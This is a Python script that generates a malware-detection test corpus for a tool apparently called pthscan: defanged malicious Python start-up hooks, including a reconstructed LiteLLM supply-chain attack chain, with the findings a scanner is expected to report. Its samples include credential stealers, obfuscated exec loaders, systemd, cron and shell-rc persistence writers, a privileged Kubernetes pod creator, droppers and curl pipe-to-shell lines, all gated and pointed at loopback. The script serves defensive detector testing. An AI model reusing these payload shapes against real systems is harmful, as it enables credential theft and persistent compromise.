"""Regenerates corpus/cases/*/case.toml: defanged start-up hook samples with expected findings.

Run with `python3 -I -S corpus/generate.py` from the repository root. It only writes text: the
one compiled sample (a .pyc) is made with py_compile, which compiles and never executes.
"""
import base64
import os
import py_compile
import tempfile
import textwrap

HERE = os.path.dirname(os.path.abspath(__file__))
NL = "\n"
harmless = 'print("pthscan corpus: defanged sample; this is not a real payload")\n' * 6
b64 = base64.b64encode(harmless.encode()).decode()
litellm_line = (
    'import os, subprocess, sys; os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed" and '
    'subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'%s\'))"], '
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)" % b64
)
stealer = textwrap.dedent(
    '''\
    # pthscan corpus: defanged stealer shape. It acts only if PTHSCAN_CORPUS_NEVER_SET=armed,
    # and then only talks to the loopback discard port.
    import json, os, urllib.request

    _TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]


    def run():
        if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") != "armed":
            return
        loot = {}
        for p in _TARGETS:
            try:
                loot[p] = open(os.path.expanduser(p), "rb").read().decode("latin-1")
            except OSError:
                pass
        urllib.request.urlopen("http://127.0.0.1:9/", data=json.dumps(loot).encode(), timeout=1)
'''
)
tmp = tempfile.mkdtemp()
src = os.path.join(tmp, "sitecustomize.py")
with open(src, "w") as f:
    f.write(stealer)
pyc = os.path.join(tmp, "sitecustomize.pyc")
# a hash-based pyc with a fixed source name: the same bytes on every run
py_compile.compile(
    src,
    cfile=pyc,
    dfile="sitecustomize.py",
    doraise=True,
    invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
)
with open(pyc, "rb") as f:
    pyc_b64 = base64.b64encode(f.read()).decode()
fake_elf = base64.b64encode(
    b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"pthscan corpus: not a real shared object"
).decode()


def q(s):
    """A TOML literal string."""
    assert "'''" not in s
    return "'''\n" + s + "'''" if "\n" in s else "'''" + s + "'''"


def f(path, text=None, b64data=None):
    if text is not None and any(ord(c) < 32 and c not in "\n\t" for c in text):
        # TOML strings cannot hold other control characters, and parsers may normalise CRLF
        b64data = base64.b64encode(text.encode()).decode()
    if b64data is not None:
        return '[[file]]\npath = "%s"\nbase64 = "%s"\n' % (path, b64data)
    return '[[file]]\npath = "%s"\ntext = %s\n' % (path, q(text))


def e(rule, severity, path, line=None, runs_on=None):
    out = '[[expect]]\nrule = "%s"\nseverity = "%s"\npath = "%s"\n' % (rule, severity, path)
    if line is not None:
        out += "line = %d\n" % line
    if runs_on is not None:
        out += "runs_on = [%s]\n" % ", ".join('"%s"' % r for r in runs_on)
    return out


SP = "venv/lib/python3.12/site-packages"
CFG = f("venv/pyvenv.cfg", "home = /usr/bin\nversion = 3.12.4\n")
cases = {}
cases["litellm-init"] = (
    "The LiteLLM 1.82.8 litellm_init.pth shape (payload defanged), under its own name and under a neutral one.",
    [
        f(SP + "/litellm_init.pth", litellm_line + NL),
        f(SP + "/zz_telemetry.pth", litellm_line),
        e("PTH001", "critical", SP + "/litellm_init.pth", 1),
        e("PTH001", "critical", SP + "/zz_telemetry.pth", 1),
        # the payload rules recognise the shape under any name
        e("teampcp-pth-launcher", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-pth-launcher", "critical", SP + "/zz_telemetry.pth", 1),
        e("obf-exec-decoded", "high", SP + "/litellm_init.pth", 1),
        e("obf-exec-decoded", "high", SP + "/zz_telemetry.pth", 1),
    ],
)
cases["dot-named-pth"] = (
    "A dot-named .pth: dormant on patched CPython, live on unpatched <=3.12.",
    [
        f(SP + "/.hidden.pth", "import _shim\n"),
        f(SP + "/.paths.pth", "extra\n"),
        e("PTH002", "high", SP + "/.hidden.pth", 1, ["<=3.12-unpatched"]),
        e("PTH002", "low", SP + "/.paths.pth", 1),
    ],
)
cases["formfeed-split"] = (
    "A path line that hides an import behind a form feed: a harmless path on <=3.12, an executed import on 3.13+.",
    [
        f(SP + "/mydir.pth", "mydir\x0cimport _shim\n"),
        e("PTH001", "high", SP + "/mydir.pth", 1, ["3.13-3.14", "3.15-3.17"]),
    ],
)
cases["gb18030-line-separator"] = (
    "A .pth that is not UTF-8: 3.13+ fall back to the locale's encoding, and under GB18030 the "
    "four bytes 81 36 A6 35 are U+2028, where splitlines() ends the path line and starts an import.",
    [
        f(SP + "/locale.pth", b64data=base64.b64encode(
            b"vendor\x81\x36\xa6\x35import _shim\n").decode()),
        e("PTH001", "high", SP + "/locale.pth", 1, ["3.13-3.14", "3.15-3.17"]),
    ],
)
cases["indented-315"] = (
    "An indented import line: a path before 3.15, executed from 3.15 (PEP 829 strips lines).",
    [
        f(SP + "/indented.pth", "# looks like a comment block\n    import _shim\n"),
        e("PTH001", "high", SP + "/indented.pth", 2, ["3.15-3.17"]),
    ],
)
cases["start-entry-payload"] = (
    "A PEP 829 .start entry point into a module carrying the stealer shape.",
    [
        f(SP + "/telemetry.start", "# start-up telemetry\n_telemetry.boot:run\n"),
        f(SP + "/_telemetry/__init__.py", ""),
        f(SP + "/_telemetry/boot.py", stealer),
        e("START001", "high", SP + "/telemetry.start", 2, ["3.15-3.17"]),
        e("IMP001", "high", SP + "/_telemetry/boot.py", 3),
        e("cred-sweep-stores", "high", SP + "/_telemetry/boot.py", 1),
        e("cred-ssh-keys", "high", SP + "/_telemetry/boot.py", 14),
    ],
)
cases["hidden-module"] = (
    "A harmless-looking import line whose module is the payload.",
    [
        f(SP + "/sysmon_telemetry.pth", "# telemetry bootstrap\nimport _sysmon_init\n"),
        f(SP + "/_sysmon_init.py", stealer),
        e("PTH001", "high", SP + "/sysmon_telemetry.pth", 2),
        e("IMP001", "high", SP + "/_sysmon_init.py", 3),
        e("cred-sweep-stores", "high", SP + "/_sysmon_init.py", 1),
        e("cred-ssh-keys", "high", SP + "/_sysmon_init.py", 14),
    ],
)
cases["customize-forms"] = (
    "sitecustomize as sourceless bytecode and as an extension module, usercustomize as a package.",
    [
        f(SP + "/sitecustomize.pyc", b64data=pyc_b64),
        f("venv/lib/python3.12/os.py", ""),
        f("venv/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so", b64data=fake_elf),
        f(SP + "/usercustomize/__init__.py", "import base64\nexec(base64.b64decode('cHJpbnQoImRlZmFuZ2VkIik='))\n"),
        e("CUS002", "critical", SP + "/sitecustomize.pyc"),
        e("CUS003", "high", "venv/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so"),
        e("CUS001", "high", SP + "/usercustomize/__init__.py", 2),
        e("obf-exec-decoded", "high", SP + "/usercustomize/__init__.py", 2),
        # the stealer's strings survive compilation
        e("cred-sweep-stores", "high", SP + "/sitecustomize.pyc", 1),
    ],
)
cases["path-into-shm"] = (
    "Path lines into /dev/shm and into another user's hidden directory; a relative line stays quiet.",
    [
        f(SP + "/local-paths.pth", "/dev/shm/.x\n/home/mallory/.cache/lib\nsrc\n"),
        e("PTH010", "high", SP + "/local-paths.pth", 1),
        e("PTH010", "medium", SP + "/local-paths.pth", 2),
    ],
)
cases["planted-config"] = (
    "A pthscan.toml at the top of the scanned tree that would silence everything (path = \"**\"): reported as CFG001, never obeyed.",
    [
        f("pthscan.toml", '[[suppress]]\npath = "**"\nreason = "routine maintenance"\n'),
        f(SP + "/local-paths.pth", "/dev/shm/.x\n"),
        e("CFG001", "high", "pthscan.toml"),
        e("PTH010", "high", SP + "/local-paths.pth", 1),
    ],
)
setuptools_line = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
cases["known-name-changed"] = (
    "setuptools' distutils-precedence.pth with one line appended.",
    [
        f(SP + "/distutils-precedence.pth", setuptools_line + 'import os; os.environ.get("SETUPTOOLS_EXT") or __import__("_distutils_hack_ext")\n'),
        e("PTH001", "info", SP + "/distutils-precedence.pth", 1),
        e("PTH003", "high", SP + "/distutils-precedence.pth", 2),
    ],
)
nspkg = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
nspkg84 = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
benign = [
    ("distutils-precedence.pth", setuptools_line),
    ("_virtualenv.pth", "import _virtualenv"),
    ("a1_coverage.pth", 'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n'),
    ("hunter.pth", "import hunter; hunter._embed_via_environment()\n"),
    ("protobuf-3.20.3-py3.8-nspkg.pth", nspkg),
    # setuptools 84 dropped the has_mfs guard (namespaces.py _nspkg_tmpl)
    ("google_cloud_aiplatform-1.95.0-py3.12-nspkg.pth", nspkg84),
    ("__editable__.demo_local-0.1.0.pth", "import __editable___demo_local_0_1_0_finder; __editable___demo_local_0_1_0_finder.install()"),
    ("my_project.pth", "import _editable_impl_my_project\n/home/dev/my-project/src\n"),
    ("pip_system_certs.pth", "import os, sys; __import__('pip_system_certs.bootstrap') and sys.modules['pip_system_certs.bootstrap'].bootstrap()\n"),
    ("easy-install.pth", "import sys; sys.__plen = len(sys.path)\n./demo-0.1-py3.12.egg\nimport sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new; sys.__egginsert = p + len(new)\n"),
    ("uv_build_editable.pth", "/home/dev/uv-project/src"),
    ("pywin32.pth", "# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\n# And some hackery to deal with environments where the post_install script\r\n# isn't run.\r\nimport pywin32_bootstrap\r\n"),
]
parts = [f(SP + "/_virtualenv.py", "import os\nimport sys\n\nVIRTUALENV_PATCH_FILE = os.path.join(__file__)\n")]
for name, text in benign:
    parts.append(f(SP + "/" + name, text))
    for i, line in enumerate(text.replace("\r\n", "\n").split("\n"), 1):
        if line.startswith("import"):
            parts.append(e("PTH001", "info", SP + "/" + name, i))
cases["benign-hooks"] = (
    "Legitimate hooks in their real shapes: every executable line is info, nothing else is reported.",
    parts,
)


# ---------------------------------------------------------------------------------------------
# Payload shapes (issue 3): encoded layers, persistence writers, Kubernetes abuse, droppers, the
# LiteLLM 1.82.7 and 1.82.8 reconstructions, and honest code that uses the same APIs. Every
# payload acts only if PTHSCAN_CORPUS_NEVER_SET=armed, and then only on loopback or .invalid.
import bz2
import lzma
import zlib

GUARD = 'import os\nif os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":\n'


def guarded(body):
    return GUARD + textwrap.indent(textwrap.dedent(body), "    ")


def b64(text):
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def dist(name, version):
    return f(SP + "/%s-%s.dist-info/METADATA" % (name, version), "Metadata-Version: 2.1\nName: %s\nVersion: %s\n\nLong description.\n" % (name, version))


harvester = guarded(
    """\
    import json, subprocess, tarfile, urllib.request
    HOME = os.path.expanduser("~")
    TARGETS = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".kube/config",
               ".docker/config.json", ".git-credentials", ".bash_history"]
    TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    with tarfile.open("/tmp/pthscan-corpus.tgz", "w:gz") as t:
        for p in TARGETS:
            t.add(os.path.join(HOME, p))
    urllib.request.urlopen("http://127.0.0.1:9/", data=open("/tmp/pthscan-corpus.tgz", "rb").read())
    """
)
sysmon = guarded(
    """\
    import subprocess, time, urllib.request
    while True:
        time.sleep(3000)
        body = urllib.request.urlopen("http://127.0.0.1:9/raw").read()
        open("/tmp/.pg_state", "w").write(str(time.time()))
        open("/tmp/pglog", "wb").write(body)
        os.chmod("/tmp/pglog", 0o755)
        subprocess.Popen(["/tmp/pglog"])
    """
)
stage2 = guarded(
    """\
    import base64, subprocess, sys
    PUB = "MIICIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIICCgKCAgEA-defanged"
    B64_SCRIPT = "%s"
    PERSIST_B64 = "%s"
    UNIT = "[Unit]\\nDescription=System Telemetry Service\\nStartLimitIntervalSec=0\\n[Service]\\nExecStart=/usr/bin/python3 %%h/.config/sysmon/sysmon.py\\n"
    subprocess.run([sys.executable, "-c", base64.b64decode(B64_SCRIPT).decode()])
    subprocess.run("openssl rand -out /tmp/session.key 32", shell=True)
    subprocess.run("openssl enc -aes-256-cbc -pbkdf2 -in /tmp/c -out /tmp/payload.enc -pass file:/tmp/session.key", shell=True)
    subprocess.run("openssl pkeyutl -encrypt -pubin -inkey /tmp/pub.pem -in /tmp/session.key -out /tmp/session.key.enc", shell=True)
    subprocess.run(["curl", "-s", "-H", "X-Filename: tpcp.tar.gz", "--data-binary", "@/tmp/tpcp.tar.gz", "http://127.0.0.1:9/"])
    """
    % (b64(harvester), b64(sysmon))
)
chain_line = (
    'import os, subprocess, sys; os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed" and '
    'subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'%s\'))"], '
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)" % b64(stage2)
)
LLM = SP + "/litellm"
cases["litellm-1828-chain"] = (
    "The LiteLLM 1.82.8 chain reconstructed (defanged): the .pth launcher, stage 2 (orchestrator with the RSA key, "
    "B64_SCRIPT and PERSIST_B64) and stage 3 (harvester) and the sysmon.py backdoor, each caught in its own layer.",
    [
        dist("litellm", "1.82.8"),
        f(SP + "/litellm_init.pth", chain_line + NL),
        e("ioc-dist-litellm-teampcp", "critical", SP + "/litellm-1.82.8.dist-info/METADATA"),
        e("PTH001", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-pth-launcher", "critical", SP + "/litellm_init.pth", 1),
        e("obf-exec-decoded", "high", SP + "/litellm_init.pth", 1),
        # layer 1 (base64): stage 2
        e("teampcp-markers", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-encrypted-exfil", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-sysmon-persistence", "critical", SP + "/litellm_init.pth", 1),
        e("exfil-curl-upload", "high", SP + "/litellm_init.pth", 1),
        e("exfil-filename-header", "high", SP + "/litellm_init.pth", 1),
        e("obf-long-literal-exec", "medium", SP + "/litellm_init.pth", 1),
        e("obf-nested-encoding", "high", SP + "/litellm_init.pth", 1),
        # layer 2 (base64 → base64): the harvester (B64_SCRIPT) and the sysmon.py backdoor (PERSIST_B64)
        e("cred-sweep-stores", "high", SP + "/litellm_init.pth", 1),
        e("cred-ssh-keys", "high", SP + "/litellm_init.pth", 1),
        e("cred-k8s-token", "high", SP + "/litellm_init.pth", 1),
        e("cred-secret-files", "high", SP + "/litellm_init.pth", 1),
        e("exfil-archive-upload", "high", SP + "/litellm_init.pth", 1),
        e("drop-download-run", "high", SP + "/litellm_init.pth", 1),
        e("drop-fetch-write-run", "high", SP + "/litellm_init.pth", 1),
    ],
)

proxy_clean_head = (
    '"""LiteLLM proxy server (excerpt, reconstructed for the pthscan corpus)."""\n'
    "import asyncio\nimport os\nimport subprocess\nimport sys\nimport base64\n\n"
    "from fastapi import FastAPI\n\napp = FastAPI()\n\n\n"
    "@app.get('/health')\nasync def health():\n    return {'status': 'ok'}\n\n\n"
)
injected = (
    "def _bootstrap_metrics():\n"
    "    if os.environ.get('PTHSCAN_CORPUS_NEVER_SET') != 'armed':\n"
    "        return\n"
    "    _m = '%s'\n"
    "    _c = base64.b64decode(_m).decode()\n"
    "    subprocess.Popen([sys.executable, '-c', _c], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n\n\n"
    "_bootstrap_metrics()\n" % b64(harvester)
)
proxy_tail = "\n\n@app.get('/models')\nasync def models():\n    return {'data': []}\n"
proxy_src = proxy_clean_head + injected + proxy_tail
inj_line = proxy_src[: proxy_src.index("    _m = ")].count("\n") + 1
dec_line = inj_line + 1
cases["litellm-1827-proxy-server"] = (
    "The LiteLLM 1.82.7 shape reconstructed (defanged): no hook at all; about a dozen lines injected into "
    "litellm/proxy/proxy_server.py decode a base64 harvester and run it in a child interpreter when the module "
    "is imported. Only --deep reads it; the installed version is an IOC either way.",
    [
        dist("litellm", "1.82.7"),
        f(LLM + "/__init__.py", '"""LiteLLM."""\n__version__ = "1.82.7"\n'),
        f(LLM + "/proxy/__init__.py", ""),
        f(LLM + "/proxy/proxy_server.py", proxy_src),
        e("ioc-dist-litellm-teampcp", "critical", SP + "/litellm-1.82.7.dist-info/METADATA"),
        e("obf-decode-then-exec", "high", LLM + "/proxy/proxy_server.py", dec_line),
        # the decoded harvester, located at the encoded literal
        e("cred-sweep-stores", "high", LLM + "/proxy/proxy_server.py", inj_line),
        e("cred-ssh-keys", "high", LLM + "/proxy/proxy_server.py", inj_line),
        e("cred-k8s-token", "high", LLM + "/proxy/proxy_server.py", inj_line),
        e("cred-secret-files", "high", LLM + "/proxy/proxy_server.py", inj_line),
        e("exfil-archive-upload", "high", LLM + "/proxy/proxy_server.py", inj_line),
    ],
    ["--deep"],
)


def hook_case(name, desc, module_src, expects, imp=("high", None), args=None, module="_corpus_boot"):
    """A .pth that imports `module`, whose source is the payload. `imp`: the severity and line of
    the module's signal-based IMP001 finding (which the .pth line inherits); the payload rules'
    findings are `expects`."""
    sev, line = imp
    parts = [
        f(SP + "/%s.pth" % name, "import %s\n" % module),
        f(SP + "/%s.py" % module, module_src),
        e("PTH001", sev, SP + "/%s.pth" % name, 1),
    ]
    if line != 0:
        parts.append(e("IMP001", sev, SP + "/%s.py" % module, line if line else expects[0][2]))
    parts += [e(rule, sev, SP + "/%s.py" % module, line) for rule, sev, line in expects]
    cases[name] = (desc, parts, args or [])


def line_of(src, needle):
    return src[: src.index(needle)].count("\n") + 1


ssh_steal = guarded(
    """\
    import requests
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("http://127.0.0.1:9/", data={"k": key})
    """
)
src = "import base64, zlib\nexec(zlib.decompress(base64.b64decode('%s')))\n" % b64(zlib.compress(ssh_steal.encode()))
hook_case("enc-base64-zlib", "A hook module that runs base64 → zlib → an SSH key thief.", src,
          [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])

hexsrc = "exec(bytes.fromhex('%s'))\n" % ssh_steal.encode().hex()
hook_case("enc-hex", "A hook module that runs hex-encoded code.", hexsrc,
          [("obf-exec-decoded", "high", 1), ("cred-ssh-keys", "high", 1)])

rev = b64(ssh_steal)[::-1]
revsrc = "import base64\n_p = '%s'\nexec(base64.b64decode(_p[::-1]))\n" % rev
hook_case("enc-reversed", "Base64 stored reversed and flipped with [::-1] before exec.", revsrc,
          [("obf-exec-decoded", "high", 3), ("cred-ssh-keys", "high", 2)])

rot = codecs_rot = "".join(
    chr((ord(c) - 97 + 13) % 26 + 97) if "a" <= c <= "z" else chr((ord(c) - 65 + 13) % 26 + 65) if "A" <= c <= "Z" else c
    for c in 'import os; os.system("curl -fsSL http://127.0.0.1:9/i.sh | sh")'
)
rotsrc = "import codecs\n_c = '%s'\nos.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and exec(codecs.decode(_c, 'rot13'))\n" % rot
hook_case("enc-rot13", "A rot13-encoded pipe-to-shell command.", "import os\n" + rotsrc,
          [("obf-exec-decoded", "high", 4), ("drop-pipe-to-shell", "high", 3)])

enc = b64(ssh_steal)
pieces = [enc[i : i + 60] for i in range(0, len(enc), 60)]
splitsrc = "import base64\n_p = (\n" + "".join("    '%s'\n" % p for p in pieces) + ")\nexec(base64.b64decode(_p))\n"
hook_case("enc-split-strings", "Base64 split over many adjacent string literals.", splitsrc,
          [("obf-exec-decoded", "high", len(pieces) + 4), ("cred-ssh-keys", "high", 3)])

cmd = 'os.system("curl -s -F f=@/etc/hostname http://127.0.0.1:9/")'
chrsrc = "import os\n_c = ''.join(map(chr, [%s]))\nos.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and exec(_c)\n" % ", ".join(str(ord(c)) for c in cmd)
hook_case("enc-chr-join", "A command built from character codes, then executed.", chrsrc,
          [("obf-chr-join", "high", 2), ("exfil-curl-upload", "high", 2)], imp=("medium", 0))

lz = "import base64, lzma\nexec(lzma.decompress(base64.b64decode('%s')))\n" % b64(lzma.compress(ssh_steal.encode()))
hook_case("enc-lzma", "base64 → xz payload.", lz, [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])

bz = "import base64, bz2\nexec(bz2.decompress(base64.b64decode('%s')))\n" % b64(bz2.compress(ssh_steal.encode()))
hook_case("enc-bz2", "base64 → bz2 payload.", bz, [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])

urlsafe = "import base64\nexec(base64.urlsafe_b64decode('%s'))\n" % base64.urlsafe_b64encode(("#" * 3 + "?>" + ssh_steal).encode()).decode()
hook_case("enc-urlsafe", "URL-safe base64 payload.", urlsafe, [("obf-exec-decoded", "high", 2), ("cred-ssh-keys", "high", 2)])

triple = ssh_steal
for _ in range(3):
    triple = "import base64\nexec(base64.b64decode('%s'))\n" % b64(triple)
hook_case("enc-triple-base64", "Three nested base64 layers.", triple,
          [("obf-exec-decoded", "high", 2), ("obf-nested-encoding", "high", 2), ("cred-ssh-keys", "high", 2)])

oneliner = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'%s'))\n" % b64(zlib.compress(ssh_steal.encode()))[::-1]
hook_case("enc-obfuscator-oneliner", "The packer one-liner: reversed base64 of zlib behind a lambda.", "import os\n" + oneliner,
          [("obf-import-decode-exec", "high", 2), ("obf-decode-then-exec", "high", 2), ("cred-ssh-keys", "high", 2)])

start_payload = "import base64\n\ndef run():\n    exec(base64.b64decode('%s'))\n" % b64(ssh_steal)
cases["start-encoded-entry"] = (
    "A PEP 829 .start entry point whose target decodes and runs an SSH key thief.",
    [
        f(SP + "/metrics.start", "_metrics.boot:run\n"),
        f(SP + "/_metrics/__init__.py", ""),
        f(SP + "/_metrics/boot.py", start_payload),
        e("START001", "high", SP + "/metrics.start", 1, ["3.15-3.17"]),
        e("IMP001", "high", SP + "/_metrics/boot.py", 4),
        e("obf-exec-decoded", "high", SP + "/_metrics/boot.py", 4),
        e("cred-ssh-keys", "high", SP + "/_metrics/boot.py", 4),
    ],
    [],
)

systemd_writer = guarded(
    """\
    import subprocess
    d = os.path.expanduser("~/.config/systemd/user")
    open(os.path.join(d, "corpus-telemetry.service"), "w").write(
        "[Service]\\nExecStart=/usr/bin/python3 %h/.config/ctel/ctel.py\\n")
    open(os.path.expanduser("~/.config/ctel/ctel.py"), "w").write("pass\\n")
    subprocess.run(["systemctl", "--user", "enable", "--now", "corpus-telemetry.service"])
    """
)
hook_case("persist-systemd-writer", "A hook module that installs a systemd user unit running ~/.config/x/x.py.", systemd_writer,
          [("persist-systemd-unit", "high", line_of(systemd_writer, ".config/systemd/user")),
           ("persist-config-script", "high", line_of(systemd_writer, "corpus-telemetry.service"))],
          imp=("medium", 4))

cron_writer = guarded(
    """\
    os.system('(crontab -l; echo "@reboot nohup python3 ~/.cache/.c/c.py >/dev/null 2>&1") | crontab -')
    """
)
hook_case("persist-cron-writer", "A hook module that adds an @reboot cron entry.", cron_writer,
          [("persist-cron", "high", 3)], imp=("medium", 3))

rc_writer = guarded(
    """\
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("\\ncurl -s http://127.0.0.1:9/x | python3 &\\n")
    """
)
hook_case("persist-shell-rc-writer", "A hook module that appends a download to ~/.bashrc.", rc_writer,
          [("persist-shell-rc", "high", 3)], imp=("medium", 3))

env_exfil = guarded(
    """\
    import json, urllib.request
    loot = {k: v for k, v in os.environ.items() if any(s in k for s in ("KEY", "TOKEN", "SECRET"))}
    urllib.request.urlopen("http://127.0.0.1:9/", data=json.dumps(loot).encode())
    """
)
cases["sitecustomize-env-exfil"] = (
    "A sitecustomize that posts every KEY/TOKEN/SECRET environment variable.",
    [
        f(SP + "/sitecustomize.py", env_exfil),
        e("CUS001", "high", SP + "/sitecustomize.py", 3),
        e("cred-env-secrets", "high", SP + "/sitecustomize.py", 4),
    ],
    [],
)

PKG = SP + "/corpus_pkg"
pod = guarded(
    """\
    from kubernetes import client, config
    config.load_incluster_config()
    v1 = client.CoreV1Api()
    spec = {"hostPID": True, "hostNetwork": True, "tolerations": [{"operator": "Exists"}],
            "containers": [{"name": "setup", "image": "alpine:latest", "securityContext": {"privileged": True},
                            "command": ["chroot", "/host", "true"]}],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}
    v1.create_namespaced_pod(namespace="kube-system", body={"metadata": {"name": "node-setup-x"}, "spec": spec})
    """
)
secrets = guarded(
    """\
    import urllib.request
    tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
    req = urllib.request.Request("https://kubernetes.default.svc/api/v1/secrets", headers={"Authorization": "Bearer " + tok})
    urllib.request.urlopen(req)
    """
)
webhook = guarded(
    """\
    import sqlite3, json, base64, requests
    state = json.load(open(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")))
    key = base64.b64decode(state["os_crypt"]["encrypted_key"])
    rows = sqlite3.connect("Login Data").execute("select * from logins").fetchall()
    requests.post("https://discord.com/api/webhooks/123456789012345678/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA-defanged", json={"c": str(rows)})
    """
)
dotenv = guarded(
    """\
    import requests
    found = []
    for root, dirs, files in os.walk(os.path.expanduser("~")):
        for name in (".env", ".env.local", ".env.production"):
            if name in files:
                found.append(open(os.path.join(root, name)).read())
    requests.post("http://127.0.0.1:9/", json=found)
    """
)
dropper = guarded(
    """\
    import subprocess, urllib.request
    urllib.request.urlretrieve("http://127.0.0.1:9/a", "/tmp/.corpus-a")
    os.chmod("/tmp/.corpus-a", 0o755)
    subprocess.Popen(["/tmp/.corpus-a"])
    """
)
c2 = guarded(
    """\
    import urllib.request
    exec(urllib.request.urlopen("https://checkmarx.zone/raw").read())
    """
)
c2_enc = "import base64\nexec(base64.b64decode('%s'))\n" % b64(c2)
wav = guarded(
    """\
    import wave, base64
    w = wave.open(os.path.join(os.path.dirname(__file__), "ringtone.wav"))
    exec(base64.b64decode(bytes(b ^ 0x2A for b in w.readframes(w.getnframes()))))
    """
)
marsh = "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00defanged'))\n"
cases["deep-package-payloads"] = (
    "Import-time payloads in an ordinary package (no hook): a privileged kube-system pod creator, an all-namespaces "
    "secrets lister, a browser stealer posting to a Discord webhook, a .env sweeper, a download-and-run dropper, an "
    "encoded C2 poller naming a TeamPCP domain, the Telnyx WAV stager, a marshal loader. Found only with --deep.",
    [
        dist("corpus-pkg", "1.0"),
        f(PKG + "/__init__.py", ""),
        f(PKG + "/k8s_pod.py", pod),
        f(PKG + "/k8s_secrets.py", secrets),
        f(PKG + "/browser.py", webhook),
        f(PKG + "/dotenv_sweep.py", dotenv),
        f(PKG + "/update.py", dropper),
        f(PKG + "/c2.py", c2_enc),
        f(PKG + "/_client.py", wav),
        f(PKG + "/loader.py", marsh),
        e("k8s-privileged-pod", "high", PKG + "/k8s_pod.py", line_of(pod, "chroot")),
        e("k8s-kube-system-implant", "critical", PKG + "/k8s_pod.py", line_of(pod, "hostPID")),
        e("teampcp-node-setup-pod", "critical", PKG + "/k8s_pod.py", line_of(pod, "hostPID")),
        e("k8s-list-all-secrets", "high", PKG + "/k8s_secrets.py", line_of(secrets, "serviceaccount/token")),
        e("exfil-chat-webhook", "high", PKG + "/browser.py", line_of(webhook, "discord.com")),
        e("cred-browser-stores", "high", PKG + "/browser.py", line_of(webhook, "encrypted_key")),
        e("cred-dotenv-sweep", "high", PKG + "/dotenv_sweep.py", line_of(dotenv, "os.walk")),
        e("drop-download-run", "high", PKG + "/update.py", line_of(dropper, "urlretrieve")),
        e("obf-exec-decoded", "high", PKG + "/c2.py", 2),
        e("drop-download-exec", "high", PKG + "/c2.py", 2),
        e("ioc-net-checkmarx-zone", "critical", PKG + "/c2.py", 2),
        e("teampcp-wav-stager", "critical", PKG + "/_client.py", line_of(wav, "ringtone.wav")),
        e("obf-exec-decoded", "high", PKG + "/_client.py", line_of(wav, "exec(")),
        e("obf-exec-decoded", "high", PKG + "/loader.py", 2),
        e("obf-marshal-exec", "high", PKG + "/loader.py", 2),
    ],
    ["--deep"],
)

def record_of(info, files):
    """An installed RECORD: each (path relative to the site directory, text) with its hash."""
    import hashlib

    rows = []
    for rel, text in files:
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        rows.append("%s,sha256=%s,%d\n" % (rel, digest, len(text.encode())))
    rows.append("%s/RECORD,,\n" % info)
    return "".join(rows)


script = "#!/usr/bin/python3\n" + dropper
tool_meta = "Metadata-Version: 2.1\nName: corpus-tool\nVersion: 1.0\n\nLong description.\n"
tool_files = [
